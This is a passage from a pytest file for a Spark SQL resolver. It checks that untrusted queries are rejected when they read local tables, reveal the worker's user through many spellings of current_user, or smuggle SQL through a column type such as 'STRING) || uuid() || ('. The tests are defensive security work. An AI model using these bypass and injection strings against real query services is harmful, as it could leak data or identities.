    spark.sql("CREATE TABLE IF NOT EXISTS secret USING parquet AS SELECT 1 AS x")
    catalog, reading = Catalog("127.0.0.1:1", backend=FakeBackend()), ReadContext(agents="127.0.0.1:1")
    try:
        assert resolve(spark, "SELECT x FROM secret", catalog, reading).frame.collect() == [(1,)]
        for text in (
            "SELECT x FROM secret",
            "SELECT x FROM default.secret",
            "SELECT x FROM global_temp.shared",
            "SELECT x FROM secret WHERE x IN (WITH secret AS (SELECT 1 AS x) SELECT x FROM secret)",
            "DESCRIBE secret",
        ):
            for judge in (resolve, analyze):
                with pytest.raises((StatementError, AnalysisException)):
                    judge(spark, text, catalog, reading, is_untrusted=True)
    finally:
        spark.sql("DROP TABLE secret")


@pytest.mark.parametrize(
    "text",
    [
        "SELECT current_user",
        "SELECT session_user AS x",
        "SELECT `current_user`",
        "SELECT `USER` AS x",
        "SELECT IDENTIFIER('current_user')",
        "EXPLAIN SELECT `session_user`",
        "SELECT id FROM range(1) WHERE id IN (SELECT length(`user`))",
        "SELECT * FROM range(1) AS a, LATERAL (SELECT `user` AS b)",
        "SELECT current_timestamp() AS at, `user`",
        "SELECT upper(user)",
        "SELECT current_path",
        "FROM range(1) |> EXTEND 1 AS x |> SET x = user",
    ],
)
def test_the_workers_user_is_nobodys_business(spark: SparkSession, text: str) -> None:
    catalog, reading = Catalog("127.0.0.1:1", backend=FakeBackend()), ReadContext(agents="127.0.0.1:1")
    with pytest.raises(StatementError, match="through agents"):
        resolve(spark, text, catalog, reading, is_untrusted=True)


@pytest.mark.parametrize("kind", ["INT, b STRING", "INT DEFAULT 1", "INT COMMENT 'x'", "STRING) || uuid() || ("])
def test_a_columns_type_smuggles_nothing(spark: SparkSession, kind: str) -> None:
    catalog = Catalog("127.0.0.1:1", backend=FakeBackend(topic("orders", "json", a=kind)))
    with pytest.raises(StatementError, match="without a type"):
        resolve(spark, "SELECT a FROM orders", catalog, ReadContext(agents="127.0.0.1:1"), is_untrusted=True)
